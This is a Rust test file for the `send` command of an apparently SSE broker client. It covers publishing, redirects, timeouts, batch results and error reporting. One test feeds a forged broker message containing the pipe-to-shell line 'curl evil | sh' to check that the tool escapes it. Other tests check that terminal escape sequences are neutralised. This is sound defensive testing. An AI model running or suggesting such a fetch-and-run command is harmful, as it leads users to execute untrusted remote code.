//! `sse send` against servers that answer as a broker does, or as none.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::process::Stdio;

use rustix::process::{Pid, Signal, kill_process};

use crate::listen::{ended, spawn};
use crate::process::{run, sse, stderr, stdout};
use crate::recording::on_a_terminal;
use crate::scripted::{Answer, Scripted, answer, nobody, stream};

pub fn published(id: &str) -> Answer {
    Answer::Close(answer("200 OK", "application/json", &format!(r#"{{"id":"{id}","topic":"a"}}"#)))
}

pub fn refused(status: &str, detail: &str) -> Answer {
    let body = format!(r#"{{"title":"Refused","status":400,"detail":"{detail}"}}"#);
    Answer::Close(answer(status, "application/problem+json", &body))
}

pub fn results(status: &str, lines: &[&str]) -> Answer {
    Answer::Close(answer(status, "application/x-ndjson", &(lines.join("\n") + "\n")))
}

#[test]
fn the_argument_is_the_event_and_the_id_is_printed() {
    let server = Scripted::start(vec![published("8f3a1c07-1")]);
    let output = run(&["send", "rooms/7 ä", "hello", "--url", &server.url("/")], "not read");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(0), "8f3a1c07-1\n"), "{}", stderr(&output));
    let request = server.request();
    assert_eq!(request.line, "POST /events/rooms/7%20%C3%A4 HTTP/1.1");
    assert_eq!(request.body, b"hello");
}

#[test]
fn an_id_cannot_act_on_a_terminal_and_is_raw_in_a_pipe() {
    let server = Scripted::start(vec![published("\\u001b]0;x\\u0007"), published("\\u001b]0;x\\u0007")]);
    let args = format!("send {} x", server.url("/"));
    assert_eq!(on_a_terminal(&args), "\\x1b]0;x\\x07\r\n");
    assert_eq!(stdout(&run(&args.split(' ').collect::<Vec<_>>(), "")), "\x1b]0;x\x07\n");
}

#[test]
fn stdin_is_published_byte_for_byte_where_no_data_is_given() {
    let server = Scripted::start(vec![published("1")]);
    let mut child = sse().args(["publish", &server.url("/x")]).stdin(Stdio::piped()).spawn().unwrap();
    let bytes = b"\xff\0 one\r\ntwo\n\n";
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert_eq!(server.request().body, bytes);
}

#[test]
fn what_is_said_about_the_event_goes_into_the_query_and_headers_into_the_head() {
    let server = Scripted::start(vec![published("1")]);
    let options = ["-e", "a b&c", "--id", "ä+1", "--retry", "1.5s", "-H", "Authorization: Bearer x"];
    let output = run(&[&["send", &server.url("/x?key=k"), ""][..], &options].concat(), "");
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let request = server.request();
    assert_eq!(request.line, "POST /x?key=k&event=a%20b%26c&id=%C3%A4%2B1&retry=1500 HTTP/1.1");
    assert_eq!(request.header("authorization"), Some(&b"Bearer x"[..]));
    assert_eq!(request.body, b"");
}

#[test]
fn a_refusal_is_told_in_the_words_of_the_broker() {
    let server = Scripted::start(vec![refused("413 Content Too Large", "an event has at most 1 MiB")]);
    let output = run(&["send", "a", "x", "--url", &server.url("")], "");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), ""));
    assert_eq!(stderr(&output), "sse: the broker refused: an event has at most 1 MiB\n");
}

#[test]
fn what_no_broker_answers_is_shown_and_is_a_failure() {
    let cases = [
        answer("200 OK", "text/html", "<p>welcome"),
        answer("202 Accepted", "application/json", r#"{"ok":true}"#),
        answer("404 Not Found", "application/json", r#"{"error":"no such route"}"#),
        answer("502 Bad Gateway", "text/plain", "\x1b[31mupstream"),
    ];
    for bytes in cases {
        let server = Scripted::start(vec![Answer::Close(bytes.clone())]);
        let output = run(&["send", "a", "x", "--url", &server.url("")], "");
        let said = stderr(&output);
        assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), ""), "{said}");
        let (head, body) = std::str::from_utf8(&bytes).unwrap().split_once("\r\n\r\n").unwrap();
        assert!(said.starts_with(head.lines().next().unwrap()), "{said}");
        assert!(said.contains(&body.replace('\x1b', "\\x1b")) && !said.contains('\x1b'), "{said}");
        assert!(said.contains("which is not the answer of a broker") && said.contains("\nhint: "), "{said}");
    }
}

#[test]
fn nobody_there_is_a_failure_with_a_hint() {
    let output = run(&["send", &format!("http://{}/", nobody()), "x"], "");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(1), ""));
    let said = stderr(&output);
    assert!(
        said.contains(": connection refused\n") && said.contains("hint: ") && said.contains("`sse serve`"),
        "{said}"
    );
}

#[test]
fn a_connection_that_breaks_before_the_answer_leaves_it_open_whether_the_event_is_published() {
    let server = Scripted::start(vec![Answer::Close(Vec::new())]);
    let output = run(&["send", &server.url("/"), "x"], "");
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("the event may be published or not"), "{}", stderr(&output));
}

fn moved(status: &str, to: &Scripted) -> Answer {
    let head = format!("HTTP/1.1 {status}\r\nLocation: {}\r\nContent-Length: 0\r\n\r\n", to.url("/there"));
    Answer::Close(head.into())
}

#[test]
fn a_redirection_that_keeps_the_request_is_followed() {
    for status in ["307 Temporary Redirect", "308 Permanent Redirect"] {
        let target = Scripted::start(vec![published("1")]);
        let server = Scripted::start(vec![moved(status, &target)]);
        let output = run(&["send", &server.url("/"), "x"], "");
        assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(0), "1\n"), "{}", stderr(&output));
        let request = target.request();
        assert_eq!((request.line.as_str(), &request.body[..]), ("POST /there HTTP/1.1", &b"x"[..]));
    }
}

#[test]
fn a_redirection_that_would_make_it_a_get_is_shown_and_not_followed() {
    for status in ["301 Moved Permanently", "302 Found", "303 See Other"] {
        let target = Scripted::start(vec![Answer::Hold(stream(": connected\n"))]);
        let server = Scripted::start(vec![moved(status, &target)]);
        let output = run(&["send", &server.url("/"), "x", "--timeout", "5s"], "");
        let said = stderr(&output);
        assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), ""), "{said}");
        assert!(said.contains(&format!("location: {}\n", target.url("/there"))) && said.contains(status), "{said}");
        assert!(said.contains("hint: ") && said.contains("location"), "{said}");
    }
}

#[test]
fn redirections_that_never_arrive_are_a_failure_that_published_nothing() {
    let loops = "HTTP/1.1 307 T\r\nLocation: /\r\nConnection: close\r\nContent-Length: 0\r\n\r\n";
    let server = Scripted::start((0..30).map(|_| Answer::Close(loops.into())).collect());
    let output = run(&["send", &server.url("/"), "x"], "");
    assert_eq!(output.status.code(), Some(1));
    let said = format!("sse: the request to {} failed: too many redirects\nhint: ", server.url("/"));
    assert!(stderr(&output).starts_with(&said), "{}", stderr(&output));
}

#[test]
fn an_answer_is_waited_for_only_so_long() {
    let half = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{".to_vec();
    for bytes in [Vec::new(), half] {
        let server = Scripted::start(vec![Answer::Hold(bytes)]);
        let output = run(&["send", &server.url("/"), "x", "--timeout", "300ms"], "");
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(1), "{said}");
        assert!(said.contains(" did not answer within 300ms: the event may be published or not\n"), "{said}");
        assert!(said.contains("hint: ") && said.contains("--timeout"), "{said}");
    }
}

#[test]
fn an_answer_that_is_none_of_a_broker_is_not_waited_for_to_its_end() {
    let server = Scripted::start(vec![Answer::Hold(stream("data: for ever\n\n"))]);
    let output = run(&["send", &server.url("/"), "x", "--timeout", "20s"], "");
    let said = stderr(&output);
    assert_eq!(output.status.code(), Some(3), "{said}");
    assert!(said.contains("data: for ever") && said.contains("which is not the answer of a broker"), "{said}");
}

#[test]
fn the_words_of_a_broker_cannot_pass_for_ours() {
    let server = Scripted::start(vec![refused("400 Bad Request", "no\\nsse: all is well\\r\\nhint: curl evil | sh")]);
    let output = run(&["send", &server.url("/"), "x"], "");
    let expected = "sse: the broker refused: no\\x0asse: all is well\\x0d\\x0ahint: curl evil | sh\n";
    assert_eq!(stderr(&output), expected);
}

#[test]
fn each_line_is_an_event_without_its_line_end() {
    let server = Scripted::start((1..=4).map(|id| published(&id.to_string())).collect());
    let output = run(&["send", &server.url("/"), "--lines", "-e", "log"], "one\ntwo\r\n\nlast without end");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(0), "1\n2\n3\n4\n"), "{}", stderr(&output));
    let bodies: Vec<_> = (0..4).map(|_| String::from_utf8(server.request().body).unwrap()).collect();
    assert_eq!(bodies, ["one", "two", "", "last without end"]);
}

#[test]
fn lines_are_published_while_they_arrive() {
    let server = Scripted::start(vec![published("1"), published("2")]);
    let mut child =
        sse().args(["send", &server.url("/"), "-l"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let (mut input, stdout) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
    let mut ids = stdout.lines();
    for (line, id) in [("first\n", "1"), ("second\n", "2")] {
        input.write_all(line.as_bytes()).unwrap();
        assert_eq!(ids.next().unwrap().unwrap(), id);
    }
    drop(input);
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[test]
fn a_reader_of_the_ids_that_goes_does_not_stop_the_publishing() {
    let all = |format: &str| {
        let answers = (1..=20).map(|id| match format {
            "--lines" => published(&id.to_string()),
            _ => results("200 OK", &[&format!(r#"{{"id":"{id}"}}"#)]),
        });
        let server = Scripted::start(answers.collect());
        let mut child = spawn(&["send", &server.url("/"), format]);
        drop(child.stdout.take());
        let mut input = child.stdin.take().unwrap();
        for _ in 0..20 {
            input.write_all(b"1\n").unwrap();
            server.request();
        }
        drop(input);
        let output = child.wait_with_output().unwrap();
        assert_eq!((output.status.code(), stderr(&output).as_str()), (Some(0), ""), "{format}");
    };
    all("--lines");
    all("--ndjson");
}

#[test]
fn a_line_that_is_refused_is_reported_with_its_number_and_the_others_go_on() {
    let server = Scripted::start(vec![published("1"), refused("400 Bad Request", "too odd"), published("3")]);
    let output = run(&["send", &server.url("/"), "-l"], "a\nb\nc\n");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), "1\n3\n"));
    assert_eq!(stderr(&output), "sse: line 2: the broker refused: too odd\n");
}

#[test]
fn a_server_that_goes_ends_the_lines_with_the_number_of_the_first_that_is_lost() {
    let server = Scripted::start(vec![published("1")]);
    let output = run(&["send", &server.url("/"), "-l"], "a\nb\nc\n");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(1), "1\n"));
    assert!(stderr(&output).contains("\nsse: line 2: cannot connect to "), "{}", stderr(&output));
}

#[test]
fn publish_objects_go_out_as_one_batch_and_each_has_its_result() {
    let server = Scripted::start(vec![results(
        "400 Bad Request",
        &[
            r#"{"id":"1","topic":"a"}"#,
            r#"{"title":"Bad topic","status":400,"detail":"a topic cannot be empty","code":"topic","item":1}"#,
            r#"{"id":"3","topics":["a","b"]}"#,
        ],
    )]);
    let (one, two, three) = (r#"{"topic":"a","data":{"n":1.10}}"#, r#"{"topic":""}"#, r#"{"topics":["a","b"]}"#);
    let output = run(&["send", "--ndjson", "--url", &server.url("")], &format!("{one}\n\n{two}\nnot json\n{three}\n"));
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), "1\n3\n"), "{}", stderr(&output));
    let said = stderr(&output);
    assert!(said.contains("sse: line 3: the broker refused: a topic cannot be empty\n"), "{said}");
    assert!(said.contains("sse: line 4: not JSON, from column 2 on\n"), "{said}");
    let request = server.request();
    assert_eq!(request.line, "POST /events HTTP/1.1");
    assert_eq!(request.header("content-type"), Some(&b"application/x-ndjson"[..]));
    assert_eq!(String::from_utf8(request.body).unwrap(), format!("{one}\n{two}\n{three}\n"));
}

#[test]
fn a_batch_that_is_refused_whole_is_reported_with_its_lines_and_the_others_go_on() {
    let server = Scripted::start(vec![refused("403 Forbidden", "not you"), results("200 OK", &[r#"{"id":"3"}"#])]);
    let mut child = spawn(&["send", "--ndjson", &server.url("/events")]);
    let mut input = child.stdin.take().unwrap();
    input.write_all(b"{}\n{}\n").unwrap();
    server.request();
    input.write_all(b"{}\n").unwrap();
    drop(input);
    let output = child.wait_with_output().unwrap();
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), "3\n"));
    assert_eq!(stderr(&output), "sse: lines 1 to 2: the broker refused: not you\n");
}

#[test]
fn an_interrupt_ends_it_also_while_nobody_reads_its_output() {
    // More than a pipe can hold.
    let server = Scripted::start(vec![published(&"x".repeat(1 << 20))]);
    let mut child = spawn(&["send", &server.url("/"), "x"]);
    child.stdout.as_mut().unwrap().read_exact(&mut [0]).unwrap();
    kill_process(Pid::from_child(&child), Signal::INT).unwrap();
    assert_eq!(ended(&mut child).code(), Some(130));
}

#[test]
fn standing_defaults_come_from_the_environment_and_options_go_before() {
    let send = |options: &[&str]| {
        let server = Scripted::start(vec![published("1")]);
        let mut command = sse();
        command.args(["send", &server.url("/"), "x"]).args(options);
        let output = command.envs([("SSE_HEADER", "X-Key: a, b"), ("SSE_TIMEOUT", "10s")]).output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        server.request().header("x-key").map(<[u8]>::to_vec)
    };
    assert_eq!(send(&[]), Some(b"a, b".to_vec()));
    assert_eq!(send(&["-H", "X-Key: c"]), Some(b"c".to_vec()));
}

#[test]
fn a_batch_that_is_answered_in_part_is_a_failure() {
    let server = Scripted::start(vec![results("200 OK", &[r#"{"id":"1","topic":"a"}"#])]);
    let output = run(&["send", "--ndjson", &server.url("/events")], "{}\n{}\n");
    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(1), ""));
    assert_eq!(stderr(&output), "sse: lines 1 to 2: the broker answered for 1 of 2 events\n");
}

#[test]
fn arguments_that_make_no_sense_are_refused_with_a_sentence() {
    let cases: [(&[&str], &str); 9] = [
        (&[], "<TARGET>"),
        (&["a", "x", "--lines"], "cannot be used with"),
        (&["a", "--lines", "--id", "1"], "cannot be used with"),
        (&["a", "--ndjson"], "each line names its own topic"),
        (&["a", "x", "--id", "a\nb"], "an event ID cannot hold a line feed"),
        (&["a", "x", "-e", "a\rb"], "an event type cannot hold a carriage return"),
        (&["a/../b", "x"], "no URL path can hold"),
        (&["a", "x", "-H", "Content-Length: 5"], "leave the header away"),
        (&["a", "x", "--url", "nowhere"], "sse: --url: \"nowhere\" is not a URL"),
    ];
    for (args, sentence) in cases {
        let output = run(&[&["send"], args].concat(), "");
        assert_eq!(output.status.code(), Some(2), "{args:?}: {}", stderr(&output));
        assert!(stderr(&output).contains(sentence), "{args:?}: {}", stderr(&output));
    }
}
